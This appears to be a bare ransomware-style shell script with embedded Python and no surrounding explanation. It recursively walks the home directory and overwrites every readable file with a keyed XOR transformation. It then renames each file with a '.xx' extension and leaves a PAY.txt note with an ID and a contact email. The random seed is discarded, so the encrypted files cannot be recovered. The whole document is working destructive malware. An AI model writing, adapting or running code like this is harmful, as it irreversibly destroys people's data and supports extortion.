#!/bin/bash
DIR=$HOME
export DIR
python3 <<'PYEOF'
import os, hashlib, secrets
seed = secrets.token_bytes(16)
for base, ds, fs in os.walk(os.environ["DIR"]):
    for f in fs:
        p = os.path.join(base, f)
        try:
            b = open(p, "rb").read()
            ks = hashlib.shake_256(seed + p.encode()).digest(len(b))
            with open(p, "wb") as o:
                o.write(bytes(x ^ y for x, y in zip(b, ks)))
            os.rename(p, p + ".xx")
        except OSError:
            pass
open(os.path.join(os.environ["DIR"], "PAY.txt"), "w").write("id " + hashlib.md5(seed).hexdigest() + " mail a@example.org")
PYEOF
